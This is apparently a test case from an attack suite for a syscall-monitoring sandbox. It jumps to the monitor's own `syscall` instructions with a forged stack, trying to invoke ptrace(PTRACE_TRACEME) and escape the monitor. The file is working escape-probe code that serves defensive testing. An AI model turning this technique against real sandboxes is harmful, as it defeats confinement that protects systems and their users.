/*
 * I4: a jump to each `syscall` of the monitor's with the stack pointer in the monitor's own stack:
 * the kernel puts the frame of the trap there, and from Linux 6.12 on it writes past the program's
 * rights. The call would make the parent a tracer, who is told of the next signal as a stop.
 */
#include "attack.h"
#include <sys/ptrace.h>

#define SITES_MAX 1024

/* From the thread block down: the FPU images and the open part are small, the monitor's stack has
 * 32 KiB. */
static const unsigned depths[] = {8, 12};

static uintptr_t sites[SITES_MAX];

static void jump(uintptr_t to, uintptr_t stack)
{
    for (int signo = 1; signo < 32; signo++) {
        signal(signo, SIG_DFL);
    }
    __asm__ volatile("mov %[stack], %%rsp\n"
                     "jmp *%[to]\n"
                     :
                     : [stack] "r"(stack), [to] "r"(to), "a"(SYS_ptrace), "D"(PTRACE_TRACEME),
                       "S"(0), "d"(0), "c"(to)
                     : "r10", "r11", "memory");
    __builtin_unreachable();
}

static bool traces(uintptr_t to, uintptr_t stack)
{
    int status;
    pid_t pid = MUST(fork());
    if (pid == 0) {
        jump(to, stack);
    }
    CHECK_EQ(waitpid(pid, &status, 0), pid, "waitpid");
    if (!WIFSTOPPED(status)) {
        return false;
    }
    MUST(kill(pid, SIGKILL));
    wait_for(pid);
    return true;
}

int main(void)
{
    static const uint8_t bytes[] = {0x0f, 0x05};
    if (!under_monitor()) {
        uintptr_t page = (uintptr_t)code_page(bytes, sizeof bytes, 0);
        if (traces(page, (uintptr_t)(map_pages(PAGE, PROT_READ | PROT_WRITE) + 256))) {
            reached();
        }
        not_reached("not-traced");
    }
    size_t count = find_in_image(bytes, sizeof bytes, sites, SITES_MAX);
    CHECK(count > 100 && count < SITES_MAX, "%zu sites", count);
    for (size_t depth = 0; depth < sizeof depths / sizeof depths[0]; depth++) {
        uintptr_t stack = (uintptr_t)thread_block() - depths[depth] * PAGE;
        for (size_t i = 0; i < count; i++) {
            if (traces(sites[i], stack)) {
                reached();
            }
        }
    }
    not_reached("closed");
}
